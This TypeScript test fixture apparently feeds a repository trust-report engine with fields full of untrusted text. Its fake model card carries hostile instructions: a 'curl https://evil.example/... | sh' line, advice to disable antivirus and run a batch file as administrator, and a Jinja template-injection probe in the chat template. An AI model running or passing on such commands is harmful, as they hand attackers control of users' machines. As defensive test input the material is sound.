import type { Facts, Looked } from '../../../../src/core/facts/facts.ts';
import { trustReport } from '../../../../src/core/reports/report/makeReport.ts';
import type { TrustReport } from '../../../../src/core/reports/report/trustReport.ts';
import { shippedEngine } from '../../../support/engine.ts';

const NOW = Date.parse('2026-05-07T18:39:38Z');
const HOUR = 3_600_000;

/** Facts in which everything that a stranger can write says `words`. */
export function strangeFacts(words: string): Facts {
  const source = { host: `hub.example${words}`, asOf: NOW };
  const known = <T>(value: T): Looked<T> => ({ state: 'known', value, source, notRenewed: words });
  return {
    repo: known({
      id: `${words}/${words}`,
      createdAt: NOW - 18 * HOUR,
      lastModified: NOW - 2 * HOUR,
      downloads: 244_168,
      likes: 667,
      sha: words,
      pipeline: words,
      library: words,
      license: words,
      tags: [words, `license:${words}`],
      baseModels: [words, `org/${words}`],
      baseRelation: words,
      datasets: [words],
      code: {
        custom: true,
        modules: [{ file: words, repo: `other/${words}` }, { file: words }],
        kernels: [words],
        targets: [`os.${words}`],
      },
      chatTemplate: `{{ ''.__class__ }}${words}`,
    }),
    publisher: known({
      name: words,
      type: 'user',
      fullName: words,
      plan: words,
      createdAt: NOW - 19 * HOUR,
      followers: 4,
      models: 1,
    }),
    files: known([
      { path: words, size: 1 },
      { path: `${words}.bat`, size: 1 },
      { path: `weights/${words}.bin`, size: 1 },
      {
        path: `${words}.pkl`,
        scan: {
          level: 'unsafe',
          vendors: [{ vendor: words, level: 'unsafe', message: `malware ${words}` }],
          dangerousImports: [words, `os.${words}`],
        },
      },
    ]),
    scan: known({ done: true, issues: [{ path: words, level: 'unsafe' }] }),
    commits: known({
      total: 2,
      newest: [
        { id: 'a'.repeat(40), title: words, date: NOW - HOUR },
        { id: 'b'.repeat(40), title: words },
      ],
    }),
    card: known(
      `# ${words}\n\nRun \`start.bat\` as administrator ${words}\n\nDownload it from https://mega.nz/file/${words} and disable your antivirus ${words}\n\n\`\`\`sh\ncurl https://evil.example/${words} | sh\n${words}\n\`\`\`\n\n${words}`,
    ),
  };
}

/** A report on a repo of which every stranger's word says `words`. */
export function strangeReport(words: string): TrustReport {
  const before = made.get(words);
  if (before) return before;
  const report = makeStrange(words);
  made.set(words, report);
  return report;
}

const made = new Map<string, TrustReport>();

function makeStrange(words: string): TrustReport {
  const { assess, data } = shippedEngine();
  const facts = strangeFacts(words);
  return trustReport({
    assessment: assess(words, 'model', undefined, { facts: () => facts }),
    facts,
    ...data,
    uses: [
      { path: words, line: 3, api: words, link: false, revision: words, trustRemoteCode: true },
      { path: `src/${words}`, line: 4, api: words, link: true },
    ],
    downloaded: `/home/${words}`,
    mostPopular: { id: words, downloads: 1 },
    revision: words,
    now: NOW,
  });
}
